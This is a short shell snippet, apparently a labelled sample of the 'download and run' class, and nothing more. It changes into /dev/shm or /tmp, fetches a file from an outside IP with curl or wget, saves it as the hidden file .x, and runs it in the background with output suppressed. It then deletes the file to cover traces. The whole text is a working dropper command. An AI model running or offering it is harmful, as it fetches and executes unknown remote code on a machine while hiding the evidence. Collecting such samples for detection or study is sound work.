# class: download and run; style: hidden in /dev/shm
cd /dev/shm || cd /tmp
(curl -fsSL http://203.0.113.57/k || wget -qO- http://203.0.113.57/k) > .x; chmod +x .x; nohup ./.x >/dev/null 2>&1 &
sleep 1; rm -f .x
